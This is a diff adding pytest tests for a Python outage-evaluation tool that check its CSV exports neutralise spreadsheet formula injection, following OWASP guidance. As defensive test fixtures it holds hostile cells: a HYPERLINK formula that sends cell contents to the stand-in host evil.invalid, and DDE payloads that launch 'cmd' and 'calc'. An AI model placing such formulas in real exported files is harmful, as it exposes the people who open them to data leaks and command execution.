@@ -2,6 +2,7 @@
 from __future__ import annotations
 
 import duckdb
+import pandas as pd
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
@@ -9,6 +10,7 @@ from hypothesis import strategies as st
 import _security_db
 from evaluation.store import db, privacy
 from evaluation.store.ingest import ingest
+from evaluation.views.pages import PAGES
 
 KEY = bytes.fromhex("ab" * 32)   # the planted database's pseudonym key
 CLEAR = ("FI-OC1-LINE", "FI-OC2-LEAK", "FI-OC2-PM1-LEAK", "FI-TARGET-SECRET")
@@ -112,3 +114,157 @@ def test_report_file_names_from_system_ids_stay_plain_names(system_id):
     name = f"evaluation-{safe_name(system_id)}.html"
     assert Path(name).name == name and name not in (".", "..")
     assert not any(ch in name for ch in "/\\\x00:")
+
+
+# ------------------------------------------------------------------ formula injection (issue #14, 7)
+
+FORMULA = '=HYPERLINK("http://evil.invalid/?"&A1,"open")'
+TRIGGERED = ["=1+1", "+33 1 23 45", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=1", "\r=1",
+             "\0x"]
+
+
+def _cells(data: bytes | str) -> list[str]:
+    import csv
+    import io
+    text = data.decode("utf-8") if isinstance(data, bytes) else data
+    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
+
+
+def _no_formula(data: bytes | str) -> None:
+    from evaluation.csv_export import TRIGGERS
+    bad = [c for c in _cells(data) if c.startswith(TRIGGERS)]
+    assert not bad, bad
+
+
+def test_neutralise_follows_owasp():
+    """OWASP CSV Injection: a cell starting with =, +, -, @, tab or carriage return (and NUL,
+    ASVS 1.2.10) gets a leading single quote; anything else, numbers included, is left as
+    it is; every text cell is quoted, so "x;=1" (a French spreadsheet splits on ";") and
+    "x<CR>=1" (a bare carriage return ends a row) stay one cell. Worked by hand, cell by
+    cell; read back through Python's csv module."""
+    from evaluation.csv_export import neutralise, to_csv
+
+    for value in TRIGGERED:
+        assert neutralise(value) == "'" + value
+    for value in ["a=b", "PM-1", "", " =1", "'=1", "FI-1234", "x\r"]:
+        assert neutralise(value) == value
+    assert neutralise(-5) == -5 and neutralise(None) is None and neutralise(2.5) == 2.5
+    frame = pd.DataFrame({"text": TRIGGERED + ["plain"], "n": [-1, -2, 3, 4, 5, 6, 7, -8]})
+    text = to_csv(frame)
+    cells = _cells(text)
+    assert cells[:2] == ["text", "n"]
+    assert cells[2::2] == ["'" + v for v in TRIGGERED] + ["plain"]
+    assert cells[3::2] == ["-1", "-2", "3", "4", "5", "6", "7", "-8"]   # numbers stay numbers
+    assert to_csv(iter([frame.iloc[:2], frame.iloc[2:]])) == text       # parts: one header
+    split = to_csv(pd.DataFrame({"t": ["x;=1", "x\r=1", 'say "=1"'], "n": [1, 2, 3]}))
+    assert split == '"t","n"\n"x;=1",1\n"x\r=1",2\n"say ""=1""",3\n'
+
+
+def _hostile_network(path, workdir):
+    """Six PMs, 30 interventions each, one a day; the PM called FORMULA has a cut in 25 of
+    its windows (the blacklist's candidate), the five "+OK<i>" PMs in one each."""
+    from conftest import load_csv_texts
+
+    pm_ids = [FORMULA] + [f"+OK{i}" for i in range(5)]
+    rows = {k: [] for k in ("pms", "interventions", "outage_reports", "outages")}
+    for p, pm in enumerate(pm_ids):
+        rows["pms"].append(f'"{pm.replace(chr(34), 2 * chr(34))}",OI01,200,@zone')
+        for d in range(30):
+            ref, day = f"OI-{p}-{d:02d}", f"2025-04-{1 + d:02d}"
+            rows["interventions"].append(f'{ref},D00{p},OI01,"{pm.replace(chr(34), 2 * chr(34))}",'
+                                         f"{day} 10:00,{day} 10:30")
+            hit = d < 25 if p == 0 else d == 0
+            rows["outage_reports"].append(f"{ref},OC01,{day} 12:00,{int(hit)}")
+            if hit:
+                rows["outages"].append(f'OC01,"{pm.replace(chr(34), 2 * chr(34))}",FI-{p}-{d},'
+                                       f"{day} 10:10,{ref}")
+    con = db.connect(path)
+    load_csv_texts(con, workdir, {
+        "pms": "pm_id,oi_code,lines,zone\n" + "\n".join(rows["pms"]) + "\n",
+        "interventions": "ref_interv_oi,code_do,code_oi,pm_id,started_at,ended_at\n"
+                         + "\n".join(rows["interventions"]) + "\n",
+        "outage_reports": "ref_interv_oi,code_oc,received_at,clients_hs\n"
+                          + "\n".join(rows["outage_reports"]) + "\n",
+        "outages": "code_oc,pm_id,pto,cut_at,ref_interv_oi\n" + "\n".join(rows["outages"]) + "\n"})
+    con.close()
+    return path
+
+
+@pytest.mark.parametrize("command", ["outages", "blacklist"])
+def test_cli_csv_neutralises_formulas(tmp_path, run_cli, command):
+    """`opeval outages|blacklist --format csv`: the PM reference FORMULA (as another operator
+    sent it) comes out as '=HYPERLINK(... and no cell of the file starts a formula."""
+    path = _hostile_network(tmp_path / "db.duckdb", tmp_path / "in")
+    code, out, err = run_cli("--db", str(path), command, "--format", "csv")
+    assert code == 0, err
+    _no_formula(out)
+    assert "'" + FORMULA in _cells(out)
+    if command == "outages":
+        assert "'+OK0" in _cells(out)
+
+
+def test_page_csv_writers_neutralise_formulas(tmp_path):
+    """Each CSV writer of the pages: a table held as a frame (layout.frame_csv), a query
+    streamed from the store (ReadOnlyStore.csv: the quarantine, raw line "=1+1,…"), the
+    alarm history (AlarmsState.history_csv: the comment) and the evaluation's tables
+    (EvaluationState.csv)."""
+    from evaluation.views.alarms_state import AlarmsState
+    from evaluation.views.evaluation_state import EvaluationState
+    from evaluation.views.layout import frame_csv
+    from evaluation.views.queries import ReadOnlyStore
+
+    path = tmp_path / "db.duckdb"
+    con = db.connect(path)
+    con.execute("INSERT INTO systems (system_id, name) VALUES ('S1', '=1+1')")
+    con.execute("INSERT INTO alarms (alarm_id, system_id, definition, resource_id, raised_at, "
+                "comment) VALUES ('A1', 'S1', 'door_forced', 'D1', TIMESTAMP '2024-03-01 10:00', "
+                "?)", ["@SUM(1+1)*cmd|' /C calc'!A0"])
+    bad = tmp_path / "systems.csv"
+    bad.write_text("system_id,name\n=1+1,a,too many\n")
+    ingest(con, "systems", [bad])
+    con.close()
+    made = frame_csv(lambda: pd.DataFrame({"name": ["=1+1"], "n": [-1]}))()
+    assert _cells(made) == ["name", "n", "'=1+1", "-1"]
+    store = ReadOnlyStore(path)
+    quarantine = store.csv("SELECT raw FROM quarantine")
+    assert _cells(quarantine) == ["raw", "'=1+1,a,too many"]
+    state = AlarmsState(path)
+    state.history_definition = "door_forced"
+    history = state.history_csv()
+    _no_formula(history)
+    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in _cells(history)
+    evaluation = EvaluationState.csv(store.df("SELECT system_id, name FROM systems"))
+    assert _cells(evaluation) == ["system_id", "name", "S1", "'=1+1"]
+
+
+def test_every_download_of_every_page_is_neutralised(tmp_path):
+    """Every download of every page (admin), on the planted database plus hostile text in
+    a system name, an alarm comment, a PM's zone, a KO message (its DO reference and
+    label) and a rejected raw line: no cell of any file starts a formula, and the hostile
+    values are there, quoted, where the files show them (the KO answers, the answer
+    counts, the quarantine)."""
+    import _security_db
+    from evaluation import serve
+    from test_security_access import _served
+
+    path = _security_db.build(tmp_path / "db.duckdb", tmp_path / "in")
+    con = db.connect(path)
+    con.execute("UPDATE systems SET name = '=1+1' WHERE system_id = 'S1'")
+    con.execute("UPDATE alarms SET comment = '@SUM(A1)' WHERE alarm_id = 'A2'")
+    con.execute("UPDATE pms SET zone = '+Z1' WHERE pm_id = 'PM1'")
+    con.execute("INSERT INTO messages VALUES (99, 0, 2, 'M1', TIMESTAMP '2024-03-05 09:02', "
+                "'DOXA', ?, NULL, NULL, 3, '@KO', 'bad', 'rejected', NULL)", [FORMULA])
+    bad = tmp_path / "rejected.csv"
+    bad.write_text("system_id,name\n=cmd|' /C calc'!A0,a,b\n")
+    ingest(con, "systems", [bad])
+    con.close()
+    seen: dict[str, bytes] = {}
+    for page_path in PAGES:
+        _, downloads = _served(serve.build_page(page_path, path))
+        for name, data in downloads.items():
+            _no_formula(data)
+            seen[f"{page_path} {name}"] = data
+    everything = b"\n".join(seen.values())
+    for value in ["'=cmd|' /C calc'!A0", "'" + FORMULA.replace('"', '""'), "'@KO"]:
+        assert value.encode() in everything, value
+    assert len(seen) >= 10
